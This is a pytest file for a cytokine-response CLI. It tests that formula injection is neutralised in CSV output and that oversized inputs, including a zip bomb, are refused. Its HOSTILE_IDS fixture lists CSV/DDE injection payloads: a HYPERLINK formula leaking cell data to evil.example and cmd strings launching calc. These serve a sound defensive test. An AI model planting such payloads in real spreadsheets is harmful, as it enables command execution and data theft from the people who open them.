"""Untrusted input and output: spreadsheet formulas, and inputs too big to read."""

from __future__ import annotations

import contextlib
import csv
import io
import zipfile

import pandas as pd
import pytest

from cytoresp.cli import main
from cytoresp.errors import InputError, UsageError
from cytoresp.panels.limits import InputLimits, check_input, read_limited

HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!A1",
    "-@SUM(A1)",
]


def _main(args: list[str]) -> tuple[int, str, str]:
    err, out = io.StringIO(), io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
        code = main(args)
    return code, out.getvalue(), err.getvalue()


@pytest.fixture
def hostile_panel(tmp_path):
    rows = [["sample_id", "IFNG", "IL10", "IL17F", "TNF"]]
    rows += [[sid, "3.2", "1.1", "4.0", "2.2"] for sid in [*HOSTILE_IDS, "P-safe"]]
    path = tmp_path / "hostile.csv"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    return path


def _cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("command", ["predict", "explain"])
def test_formulas_are_neutralised_in_csv_output(small_model, hostile_panel, tmp_path, command):
    out = tmp_path / f"{command}.csv"
    code, _, err = _main(
        [command, "--model", str(small_model), "--input", str(hostile_panel), "--output", str(out)]
        + (["--explain", "2"] if command == "predict" else [])
    )
    assert code == 0, err
    rows = _cells(out)[1:]
    ids = {r[0] for r in rows}
    assert ids == {"'" + sid for sid in HOSTILE_IDS} | {"P-safe"}
    for row in rows:  # no cell of the output starts a formula
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            if cell.startswith("-"):
                float(cell)  # only negative numbers may start with '-'


def test_formulas_are_neutralised_on_stdout(small_model, hostile_panel):
    code, out, err = _main(
        ["predict", "--model", str(small_model), "--input", str(hostile_panel), "--output", "-"]
    )
    assert code == 0, err
    ids = [r[0] for r in csv.reader(io.StringIO(out))][1:]
    assert ids[:2] == ["'" + HOSTILE_IDS[0], "'" + HOSTILE_IDS[1]]


def test_parquet_output_keeps_the_ids_exactly(small_model, hostile_panel, tmp_path):
    """Parquet is data, not a spreadsheet: ids round-trip unchanged."""
    out = tmp_path / "pred.parquet"
    code, _, err = _main(
        ["predict", "--model", str(small_model), "--input", str(hostile_panel),
         "--output", str(out)]
    )  # fmt: skip
    assert code == 0, err
    assert pd.read_parquet(out)["sample_id"].tolist() == [*HOSTILE_IDS, "P-safe"]


# -- size limits ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "limits", "match"),
    [
        (b"a,b\n1,2\n" * 100, InputLimits(max_bytes=100), r"larger than the limit of 100 bytes"),
        (b"sample_id," + b"X," * 50 + b"Y\n", InputLimits(max_columns=10), r"52 columns"),
        (b"a\n" + b"1" * 5000 + b"\n", InputLimits(max_line_bytes=1000), r"a line is longer"),
        (b"a\r" + b"1" * 5000, InputLimits(max_line_bytes=1000), r"a line is longer"),
        (b"a,b\n" + b"1,2\n" * 600, InputLimits(max_cells=1000), r"600 rows x 2 columns"),
        (b"a,b\r\n" + b"1,2\r\n" * 600, InputLimits(max_cells=1000), r"600 rows x 2 columns"),
    ],
    ids=["bytes", "columns", "line-lf", "line-cr", "cells", "cells-crlf"],
)
def test_limits_refuse_with_a_clear_error(tmp_path, data, limits, match):
    path = tmp_path / "in.csv"
    path.write_bytes(data)
    with pytest.raises(InputError, match=match):
        check_input(path, limits)
    with pytest.raises(InputError, match=match):
        check_input(data, limits, name="in.csv")


@pytest.mark.parametrize(
    "data",
    [
        b"sample_id,IFNG\nP1,1\n",
        b"\n\n  \nsample_id;IFNG;IL10\r\nP1;1;2\r\n",
        b"\xef\xbb\xbfsample_id,IFNG\nP1,1",
        b"",
        b'"a,b,c",d\n1,2\n',
    ],
)
def test_ordinary_files_pass(tmp_path, data):
    path = tmp_path / "in.csv"
    path.write_bytes(data)
    limits = InputLimits(max_bytes=10_000, max_columns=3, max_line_bytes=30, max_cells=100)
    check_input(path, limits)
    check_input(data, limits)


def test_line_length_across_read_blocks(tmp_path, monkeypatch):
    """A long line split between two read blocks is measured whole."""
    import cytoresp.panels.limits as limits_mod

    monkeypatch.setattr(limits_mod, "_BLOCK", 64)
    ok = b"a,b\n" + b"1,2\n" * 100
    path = tmp_path / "in.csv"
    path.write_bytes(ok + b"x" * 90 + b"\n" + ok)
    with pytest.raises(InputError, match="a line is longer"):
        check_input(path, InputLimits(max_line_bytes=80))
    path.write_bytes(ok + b"x" * 70 + b"\n" + ok)
    check_input(path, InputLimits(max_line_bytes=80))


def test_zip_bomb_and_parquet_metadata(tmp_path):
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/worksheets/sheet1.xml", b" " * (2 << 20))
    assert bomb.stat().st_size < 20_000
    with pytest.raises(InputError, match="unpacks to 2.0 MiB"):
        check_input(bomb, InputLimits(max_bytes=1 << 20))
    wide = tmp_path / "wide.parquet"
    pd.DataFrame({f"c{i}": [1.0] for i in range(30)}).to_parquet(wide)
    with pytest.raises(InputError, match="30 columns"):
        check_input(wide, InputLimits(max_columns=20))
    check_input(wide, InputLimits(max_columns=40))


def test_dataframe_and_stream_limits():
    frame = pd.DataFrame({"a": range(10), "b": range(10)})
    with pytest.raises(InputError, match="10 rows x 2 columns"):
        check_input(frame, InputLimits(max_cells=5))
    with pytest.raises(InputError, match="larger than the limit"):
        read_limited(io.BytesIO(b"x" * 101), "<stdin>", InputLimits(max_bytes=100))
    assert read_limited(io.BytesIO(b"a,b\n1,2\n"), "<stdin>") == b"a,b\n1,2\n"


@pytest.mark.parametrize(
    ("env", "expected"),
    [
        ({}, InputLimits()),
        ({"CYTORESP_MAX_COLUMNS": "50"}, InputLimits(max_columns=50)),
        ({"CYTORESP_MAX_INPUT_BYTES": "0"}, InputLimits(max_bytes=None)),
        ({"CYTORESP_MAX_CELLS": "1e6"}, InputLimits(max_cells=1_000_000)),
        ({"CYTORESP_MAX_LINE_BYTES": "1_000"}, InputLimits(max_line_bytes=1000)),
    ],
)
def test_limits_from_the_environment(env, expected):
    assert InputLimits.from_env(env) == expected


@pytest.mark.parametrize("value", ["lots", "1e999", "12 MB"])
def test_bad_limit_setting_is_a_usage_error(value):
    with pytest.raises(UsageError, match="CYTORESP_MAX_COLUMNS must be a whole number"):
        InputLimits.from_env({"CYTORESP_MAX_COLUMNS": value})


def test_limits_through_the_cli_are_fast_and_write_nothing(
    big_csv, small_model, tmp_path, monkeypatch
):
    """A 50,000-row file under a 1 MB limit: refused at once, before the model is loaded."""
    monkeypatch.setenv("CYTORESP_MAX_INPUT_BYTES", "1000000")
    code, _, err = _main(
        ["predict", "--model", "/nonexistent/model", "--input", str(big_csv),
         "--output", str(tmp_path / "pred.csv")]
    )  # fmt: skip
    assert code == 2
    assert "larger than the limit of 976.6 KiB" in err and "CYTORESP_MAX_INPUT_BYTES" in err
    assert list(tmp_path.iterdir()) == []
